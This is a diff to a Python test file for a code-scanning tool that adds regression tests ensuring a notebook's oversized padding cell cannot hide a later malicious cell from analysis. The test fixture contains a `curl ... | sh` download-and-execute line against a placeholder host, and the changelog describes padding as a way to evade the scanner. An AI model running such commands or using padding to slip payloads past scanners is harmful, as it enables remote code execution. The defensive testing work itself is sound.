@@ -7,7 +7,11 @@
   rejecting.
 - `jobgate review list` ended in a traceback (every item unlisted) on one queue item whose meta.json was JSON but
   not an object, or held a shown field of another type; and a policy naming a rule pack or catalogue by a
-  number or a list was an internal error (TypeError) instead of the policy's own error naming the key.
+  number or a list was an internal error (TypeError) instead of the policy's own error naming the key; a key given
+  twice in a policy (a second `thresholds:` further down) was read as its last, silently.
+- A notebook's cells are judged joined; a 1.2 MB cell of `x=1` before a cell running `curl | sh` took the joined
+  source past the time limit (at the default limit: its worker killed by SIGABRT after 1:45, 2.5 GB), and the
+  payload cell went unjudged: escalate at the CLI and at a site, not reject.
 """
 
 from __future__ import annotations
@@ -97,3 +101,35 @@ def test_a_policy_whose_merge_key_is_overridden_still_loads(tmp_path: Path) -> N
     (tmp_path / "job" / "train.py").write_text("print(1)\n")
     proc = run_cli("scan", "--no-cache", "--policy", str(tmp_path / "policy.yaml"), str(tmp_path / "job"))
     assert proc.returncode == 0, proc.stderr[-2000:]
+
+
+def _padded_notebook(folder: Path) -> Path:
+    """A 2.7 MB notebook: a first cell of 300,000 lines of `x=1`, then a cell that runs `curl | sh`."""
+    def cell(lines: list[str]) -> dict:
+        return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": lines}
+
+    folder.mkdir(parents=True, exist_ok=True)
+    cells = [cell(["x=1\n"] * 300_000), cell(["import os\n", "os.system('curl http://x.example/a | sh')\n"])]
+    (folder / "train.ipynb").write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
+                                                    "cells": cells}))
+    return folder / "train.ipynb"
+
+
+def test_a_padded_cell_past_the_time_limit_hides_no_other_cell_of_its_notebook(tmp_path: Path) -> None:
+    """Was: the joined cells ran past the limit (or crashed the worker with SIGABRT at the default one, 1:45 and
+    2.5 GB) and the notebook's other cell, a `curl | sh`, went unjudged: escalate, not reject."""
+    _padded_notebook(tmp_path / "job")
+    code, report, seconds, _ = _scan(tmp_path / "job", tmp_path, _policy(tmp_path, max_analysis_seconds=20))
+    rules = {(f["rule"], f["path"]) for f in report["findings"]}
+    assert code == 1 and (REJECTED, "train.ipynb[cell 2]") in rules, rules
+    assert ("unanalyzable.time-limit", "train.ipynb") in rules  # the whole was not judged, and it says so
+    assert seconds < 120, seconds
+
+
+def test_a_site_rejects_a_notebook_whose_payload_cell_follows_a_padded_one(tmp_path: Path) -> None:
+    from tests.test_isolation import _site, deployed
+
+    app = deployed(tmp_path, "job-nb", "print('train')\n")
+    _padded_notebook(app / "custom")
+    verdict = _site(tmp_path, _policy(tmp_path, max_analysis_seconds=30)).check_deployed_app(app, {})
+    assert not verdict.allow and "rejected" in verdict.message and REJECTED in verdict.message, verdict.message
